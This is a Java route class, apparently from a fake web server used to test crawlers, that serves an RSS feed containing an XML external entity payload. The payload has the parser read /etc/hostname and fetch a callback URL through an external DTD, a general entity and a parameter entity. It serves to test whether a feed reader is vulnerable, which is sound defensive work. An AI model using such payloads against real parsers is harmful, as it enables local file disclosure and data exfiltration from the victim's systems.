package dev.gregor.fakeweb.routes.hostile;

import dev.gregor.fakeweb.FakeRequest;
import dev.gregor.fakeweb.ResponseWriter;
import dev.gregor.fakeweb.Route;
import java.io.IOException;

/**
 * A sitemap and feed that has its reader fetch other things: a file of the reader's machine, and a URL.
 *
 * @param called a URL that nobody asks for, unless the XML makes them
 */
public record ForeignEntities(String type, String called) implements Route {
    @Override
    public void answer(FakeRequest request, ResponseWriter wire) throws IOException {
        String xml = """
                <?xml version="1.0"?>
                <!DOCTYPE rss SYSTEM "%2$s?dtd" [
                <!ENTITY file SYSTEM "file:///etc/hostname">
                <!ENTITY url SYSTEM "%2$s?entity">
                <!ENTITY %% more SYSTEM "%2$s?parameter"> %%more;
                ]>
                <rss version="2.0"><channel><title>&file;</title>
                <item><link>http://%1$s/&file;&url;</link></item>
                </channel></rss>
                """.formatted(request.host(), called);
        wire.answer(200, type, xml);
    }
}
